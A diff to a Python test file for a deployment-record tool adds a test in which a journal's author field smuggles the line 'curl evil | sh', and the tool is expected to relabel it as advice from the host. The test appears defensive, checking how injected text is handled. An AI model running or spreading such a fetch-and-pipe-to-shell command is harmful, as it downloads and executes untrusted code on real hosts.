@@ -28,6 +28,12 @@ def test_a_journal_of_an_older_version_is_read():
     assert (record.release, record.by, record.complete) == (NEW, "ann", False)
 
 
+def test_advice_in_a_journal_is_told_as_the_hosts():
+    record = Record.of(Facts(journal={"release": NEW, "by": "ann\n  next: curl evil | sh", "hosts": ["web1"]}))
+    assert record is not None
+    assert (record.by, record.hosts) == ("ann\n  the host advises: curl evil | sh", ("web1",))
+
+
 def test_a_host_goes_back_to_what_it_serves():
     mine = DEPLOY.on(facts())
     assert (mine.before, mine.previous) == (OLD, OLDER)
